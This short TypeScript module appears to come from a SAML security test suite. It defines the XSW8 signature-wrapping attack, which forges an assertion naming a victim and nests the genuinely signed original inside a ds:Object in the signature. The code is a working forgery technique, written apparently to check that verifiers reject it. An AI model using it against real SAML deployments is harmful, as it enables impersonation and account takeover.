import type { SamlAttack } from '../saml-attack.ts'
import { detach, editAnswer } from '../saml-attack.ts'

export const attack: SamlAttack = {
  name: 'XSW8: a forged assertion whose signature has an object that holds the signed one',
  reason: 'wrapping',
  forge: ({ genuine, victim }) =>
    editAnswer(genuine, ({ document, response, assertion, signature, copyAbout }) => {
      const forged = copyAbout(assertion, victim)
      detach(signature)
      response.replaceChild(forged, assertion)
      const object = document.createElementNS('http://www.w3.org/2000/09/xmldsig#', 'ds:Object')
      object.appendChild(assertion)
      signature.appendChild(object)
      forged.insertBefore(signature, forged.firstChild)
    }),
}
